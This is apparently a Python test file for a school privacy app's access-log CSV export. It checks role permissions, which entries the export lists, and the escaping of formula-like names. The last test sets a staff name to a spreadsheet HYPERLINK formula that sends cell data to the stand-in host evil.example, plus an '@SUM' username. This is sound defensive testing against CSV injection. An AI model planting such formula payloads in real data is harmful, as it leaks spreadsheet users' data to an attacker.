"""The DPO exports the access log for a person: their page, their cases and letters to them."""

import csv
import io

from incidents.workflow import Stage
from privacy.models import AccessLogEntry

from .conftest import EVERYONE


def _csv(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_only_the_dpo_exports(build, statuses_of):
    person = build.person()
    url = f"/privacy/people/{person.pk}/access-log.csv"
    assert statuses_of(url, EVERYONE) == {
        "office": 403, "senior": 403, "head": 403, "chair": 403, "trust": 403, "dpo": 200,
        "other_office": 404, "other_head": 404, "inactive": "login", "anonymous": "login",
    }


def test_the_export_lists_views_of_the_person_and_their_cases_only(build, client_as, client_for):
    case = build.case(stage=Stage.GATHERING)
    person = case.subjects()[0]
    stranger_case = build.case(person=build.person(name="Sally Stranger"))
    client_as("office").get(case.get_absolute_url())
    client_as("senior").get(person.get_absolute_url())
    client_as("head").get(stranger_case.get_absolute_url())
    rows = _csv(client_for("dpo").get(f"/privacy/people/{person.pk}/access-log.csv"))
    assert rows[0][:4] == ["When", "Who", "Username", "What"]
    body = [(r[2], r[3], r[5], r[6]) for r in rows[1:]]
    assert body == [("office", "Case page", case.reference, ""), ("senior", "Person page", "", "yes")]
    assert AccessLogEntry.objects.count() == 3


def test_a_staff_name_that_looks_like_a_formula_is_written_as_text(build, school, client_for):
    from django.contrib.auth import get_user_model
    from django.test import Client

    from conduct.models import StaffRole
    from conduct.roles import Role

    person = build.person()
    # As a trust staff file could import them: a name and a username a spreadsheet would run.
    imported = get_user_model().objects.create_user(
        username="@SUM(1+1)", first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', last_name="")
    StaffRole.objects.create(user=imported, role=Role.SENIOR, school=school)
    viewer = Client()
    viewer.force_login(imported)
    assert viewer.get(person.get_absolute_url()).status_code == 200
    [header, row] = _csv(client_for("dpo").get(f"/privacy/people/{person.pk}/access-log.csv"))
    assert row[1] == "'" + imported.get_full_name() and row[2] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + row)
